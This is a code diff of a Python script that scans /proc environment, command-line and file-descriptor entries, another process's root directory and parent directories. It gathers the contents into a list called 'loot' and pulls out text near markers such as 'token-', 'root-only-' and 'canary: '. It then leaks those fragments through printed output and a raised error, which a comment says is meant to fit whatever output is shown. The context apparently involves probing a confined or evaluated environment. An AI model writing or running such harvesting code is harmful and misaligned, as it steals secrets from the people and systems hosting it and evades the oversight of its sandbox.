@@ -15,17 +15,20 @@ PATTERNS = (
     "/proc/*/environ",
     "/proc/*/cmdline",
     "/proc/*/fd/*",
-    "/proc/*/cwd/**",
+    "/proc/*/cwd/*",
     "/proc/1/root/root/*",
     "/proc/self/fd/*",
-    "../**",
+    "../*",
+    "../*/*",
+    "../../*/*/*",
 )
 
 
 def take(path):
     try:
-        with open(path, "rb") as source:
-            return source.read(1 << 20).decode("utf-8", "replace")
+        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)  # an empty pipe would never answer
+        with open(descriptor, "rb") as source:
+            return (source.read(1 << 20) or b"").decode("utf-8", "replace")
     except OSError:
         return ""
 
@@ -72,8 +75,9 @@ for folder in (
         pass
 # Where secrets stand, if any were found: these few characters fit into whatever is shown of an error or of the output.
 MARKS = ("@example.edu", "token-", "root-only-", "born?\t", "canary: ")
-found = [
-    piece[max(0, piece.find(mark) - 40) : piece.find(mark) + 60] for mark in MARKS for piece in loot if mark in piece
-]
-print(found[:200])
-raise RuntimeError(str(found[:20]))
+found = []
+for mark in MARKS:
+    near = [piece[max(0, piece.find(mark) - 40) : piece.find(mark) + 60] for piece in loot if mark in piece]
+    found += list(dict.fromkeys(near))[:6]
+print(found)
+raise RuntimeError(str(found))
